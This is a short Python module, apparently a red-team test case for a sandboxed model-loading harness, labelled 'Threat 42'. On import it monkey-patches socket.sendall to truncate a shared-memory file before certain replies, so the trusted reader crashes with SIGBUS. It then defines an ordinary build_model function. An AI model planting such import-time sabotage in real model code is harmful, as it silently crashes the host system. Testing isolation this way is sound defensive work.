"""Threat 42: shrink the shared-memory file under the trusted side's feet.

Every reply that points into shared memory is sent only after the file was truncated to
nothing: a reader that maps the file dies of SIGBUS on its first read (no report at all).
"""

import os
import socket

SHM = "/arena/ipc/arena.shm"
_sendall = socket.socket.sendall


def _shrink_then_send(sock, data, *args):
    frame = bytes(data[:16])
    if frame[:4] == b"DDAR" and frame[7] > 0:  # a reply with tensor descriptors
        os.truncate(SHM, 0)
    return _sendall(sock, data, *args)


socket.socket.sendall = _shrink_then_send

from torch import nn


def build_model() -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(64, 2))
